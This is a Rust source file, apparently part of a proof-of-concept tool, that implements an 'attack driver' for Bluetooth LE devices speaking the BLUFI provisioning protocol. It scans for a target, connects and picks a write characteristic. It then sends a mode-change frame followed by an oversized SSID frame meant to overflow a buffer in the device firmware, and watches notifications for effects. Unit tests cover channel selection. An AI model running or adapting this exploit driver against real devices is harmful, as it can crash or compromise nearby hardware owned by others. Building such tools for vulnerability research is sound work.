//! Attack driver - the scripted BLUFI exchange as a sequential state machine
//!
//! One run walks `Idle -> Scanning -> Connected -> CharacteristicsDiscovered
//! -> NotifyEnabled -> Exploiting -> Disconnected`. Notify is optional; any
//! other failure ends the run after best-effort cleanup. The connection,
//! once opened, is released on every exit path.

use std::collections::BTreeSet;
use std::time::Duration;

use btleplug::api::{CharPropFlags, Characteristic, Manager as _, Peripheral as _, WriteType};
use btleplug::platform::{Adapter, Manager, Peripheral};
use data_encoding::HEXLOWER;
use futures::StreamExt;
use log::{debug, info, warn};
use uuid::Uuid;

use blufi_proto::ble::{
    STANDARD_WRITE_UUID, VARIANT_NOTIFY_UUID, VARIANT_WRITE_UUID, frame_type, opmode,
};
use blufi_proto::{Packet, SeqCounter};

use crate::AttackError;
use crate::payload::OverflowLayout;
use crate::scan::{scan_devices, select_target};

/// Parse UUID string constants from blufi-proto.
fn parse_uuid(s: &str) -> Uuid {
    Uuid::parse_str(s).expect("invalid UUID in blufi_proto")
}

/// Everything tunable about one attack run.
#[derive(Debug, Clone)]
pub struct AttackConfig {
    pub scan_duration: Duration,
    pub connect_timeout: Duration,
    /// Wait after connect before service discovery.
    pub ready_delay: Duration,
    /// Wait between the opmode frame and the overflow frame.
    pub settle_delay: Duration,
    /// Wait after the overflow frame so effects can surface via notify.
    pub observe_window: Duration,
    /// Preferred write characteristic.
    pub write_uuid: Uuid,
    /// Fallback write characteristic on standard firmware builds.
    pub fallback_write_uuid: Uuid,
    /// Response characteristic, subscribed when present.
    pub notify_uuid: Uuid,
    pub layout: OverflowLayout,
}

impl Default for AttackConfig {
    fn default() -> Self {
        Self {
            scan_duration: Duration::from_secs(15),
            connect_timeout: Duration::from_secs(10),
            ready_delay: Duration::from_secs(2),
            settle_delay: Duration::from_millis(500),
            observe_window: Duration::from_secs(20),
            write_uuid: parse_uuid(VARIANT_WRITE_UUID),
            fallback_write_uuid: parse_uuid(STANDARD_WRITE_UUID),
            notify_uuid: parse_uuid(VARIANT_NOTIFY_UUID),
            layout: OverflowLayout::default(),
        }
    }
}

/// Driver progress through the attack sequence.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DriverState {
    Idle,
    Scanning,
    Connected,
    CharacteristicsDiscovered,
    NotifyEnabled,
    Exploiting,
    Disconnected,
}

pub struct AttackDriver {
    config: AttackConfig,
    state: DriverState,
    seq: SeqCounter,
    subscribed: Option<Characteristic>,
}

impl AttackDriver {
    pub fn new(config: AttackConfig) -> Self {
        Self {
            config,
            state: DriverState::Idle,
            seq: SeqCounter::new(),
            subscribed: None,
        }
    }

    pub fn state(&self) -> DriverState {
        self.state
    }

    fn enter(&mut self, state: DriverState) {
        debug!("driver state: {:?} -> {:?}", self.state, state);
        self.state = state;
    }

    /// Run the full attack sequence on the first Bluetooth adapter.
    pub async fn run(&mut self) -> Result<(), AttackError> {
        let manager = Manager::new().await?;
        let adapters = manager.adapters().await?;
        let adapter = adapters.into_iter().next().ok_or(AttackError::NoAdapter)?;
        self.run_on(&adapter).await
    }

    /// Run the full attack sequence on a specific adapter.
    pub async fn run_on(&mut self, adapter: &Adapter) -> Result<(), AttackError> {
        self.enter(DriverState::Scanning);
        info!("scanning for {:?}", self.config.scan_duration);
        let (peripherals, devices) =
            scan_devices(adapter, self.config.scan_duration).await?;
        let target = select_target(&devices).ok_or(AttackError::NoTargetFound)?;
        let peripheral = &peripherals[target];

        match tokio::time::timeout(self.config.connect_timeout, peripheral.connect()).await {
            Ok(Ok(())) => {}
            Ok(Err(e)) => return Err(AttackError::Connect(e)),
            Err(_) => return Err(AttackError::ConnectTimeout(self.config.connect_timeout)),
        }
        self.enter(DriverState::Connected);
        info!("connected to {}", devices[target].address);

        // From here the connection is released on every path, success or not.
        let result = self.exploit(peripheral).await;
        self.cleanup(peripheral).await;
        self.enter(DriverState::Disconnected);
        result
    }

    async fn exploit(&mut self, peripheral: &Peripheral) -> Result<(), AttackError> {
        tokio::time::sleep(self.config.ready_delay).await;

        peripheral.discover_services().await?;
        let characteristics = peripheral.characteristics();
        let write_char = choose_write_char(
            &characteristics,
            self.config.write_uuid,
            self.config.fallback_write_uuid,
        )
        .ok_or(AttackError::NoWriteChannel)?
        .clone();
        self.enter(DriverState::CharacteristicsDiscovered);
        info!("write channel: {}", write_char.uuid);

        let notify_char = characteristics.iter().find(|c| {
            c.uuid == self.config.notify_uuid && c.properties.contains(CharPropFlags::NOTIFY)
        });
        if let Some(notify_char) = notify_char {
            // Responses are observational only; losing them never blocks
            // the sequence.
            match self.subscribe(peripheral, notify_char).await {
                Ok(()) => {
                    self.enter(DriverState::NotifyEnabled);
                    info!("notifications on: {}", notify_char.uuid);
                }
                Err(e) => warn!("notify subscription failed, continuing: {}", e),
            }
        }

        self.enter(DriverState::Exploiting);

        // Legitimate mode change first, so the firmware accepts the SSID
        // frame that follows.
        self.send_packet(
            peripheral,
            &write_char,
            frame_type::OPMODE,
            vec![opmode::STATION],
        )
        .await?;
        tokio::time::sleep(self.config.settle_delay).await;

        let overflow = self.config.layout.build()?;
        self.send_packet(peripheral, &write_char, frame_type::STA_SSID, overflow)
            .await?;

        info!(
            "overflow frame sent, observing for {:?}",
            self.config.observe_window
        );
        tokio::time::sleep(self.config.observe_window).await;
        Ok(())
    }

    async fn subscribe(
        &mut self,
        peripheral: &Peripheral,
        characteristic: &Characteristic,
    ) -> Result<(), btleplug::Error> {
        peripheral.subscribe(characteristic).await?;
        let mut notifications = peripheral.notifications().await?;
        tokio::spawn(async move {
            while let Some(notification) = notifications.next().await {
                info!("response: {}", HEXLOWER.encode(&notification.value));
            }
        });
        self.subscribed = Some(characteristic.clone());
        Ok(())
    }

    async fn send_packet(
        &mut self,
        peripheral: &Peripheral,
        characteristic: &Characteristic,
        packet_type: u8,
        payload: Vec<u8>,
    ) -> Result<(), AttackError> {
        let packet = Packet::new(packet_type, self.seq.next(), payload);
        let bytes = packet.to_bytes()?;
        peripheral
            .write(characteristic, &bytes, WriteType::WithoutResponse)
            .await
            .map_err(AttackError::Write)?;

        let preview = &packet.payload[..packet.payload.len().min(32)];
        info!(
            "sent: type=0x{:02x} seq=0x{:02x} len={} payload={}",
            packet.packet_type,
            packet.seq,
            packet.payload.len(),
            HEXLOWER.encode(preview)
        );
        Ok(())
    }

    /// Best-effort teardown. Errors are swallowed so cleanup can never
    /// replace the run's original failure reason.
    async fn cleanup(&mut self, peripheral: &Peripheral) {
        if let Some(characteristic) = self.subscribed.take() {
            if let Err(e) = peripheral.unsubscribe(&characteristic).await {
                debug!("unsubscribe failed during cleanup: {}", e);
            }
        }
        if let Err(e) = peripheral.disconnect().await {
            debug!("disconnect failed during cleanup: {}", e);
        }
    }
}

/// Write-channel priority: the preferred UUID, then the fallback, then
/// the first writable characteristic in UUID order.
pub fn choose_write_char(
    characteristics: &BTreeSet<Characteristic>,
    preferred: Uuid,
    fallback: Uuid,
) -> Option<&Characteristic> {
    let writable: Vec<&Characteristic> = characteristics
        .iter()
        .filter(|c| {
            c.properties
                .intersects(CharPropFlags::WRITE | CharPropFlags::WRITE_WITHOUT_RESPONSE)
        })
        .collect();

    writable
        .iter()
        .find(|c| c.uuid == preferred)
        .or_else(|| writable.iter().find(|c| c.uuid == fallback))
        .copied()
        .or_else(|| writable.first().copied())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn characteristic(uuid: Uuid, properties: CharPropFlags) -> Characteristic {
        Characteristic {
            uuid,
            service_uuid: uuid,
            properties,
            descriptors: BTreeSet::new(),
        }
    }

    fn variant() -> Uuid {
        parse_uuid(VARIANT_WRITE_UUID)
    }

    fn standard() -> Uuid {
        parse_uuid(STANDARD_WRITE_UUID)
    }

    #[test]
    fn variant_uuid_preferred() {
        let chars = BTreeSet::from([
            characteristic(standard(), CharPropFlags::WRITE),
            characteristic(variant(), CharPropFlags::WRITE),
        ]);
        let chosen = choose_write_char(&chars, variant(), standard()).unwrap();
        assert_eq!(chosen.uuid, variant());
    }

    #[test]
    fn standard_uuid_when_variant_missing() {
        let chars = BTreeSet::from([
            characteristic(standard(), CharPropFlags::WRITE),
            characteristic(Uuid::from_u128(0xabcd), CharPropFlags::WRITE),
        ]);
        let chosen = choose_write_char(&chars, variant(), standard()).unwrap();
        assert_eq!(chosen.uuid, standard());
    }

    #[test]
    fn any_writable_as_last_resort() {
        let chars = BTreeSet::from([
            characteristic(Uuid::from_u128(0xabcd), CharPropFlags::NOTIFY),
            characteristic(
                Uuid::from_u128(0x1234),
                CharPropFlags::WRITE_WITHOUT_RESPONSE,
            ),
        ]);
        let chosen = choose_write_char(&chars, variant(), standard()).unwrap();
        assert_eq!(chosen.uuid, Uuid::from_u128(0x1234));
    }

    #[test]
    fn no_writable_characteristic_is_none() {
        let chars = BTreeSet::from([
            characteristic(variant(), CharPropFlags::NOTIFY),
            characteristic(standard(), CharPropFlags::READ),
        ]);
        assert!(choose_write_char(&chars, variant(), standard()).is_none());
    }
}
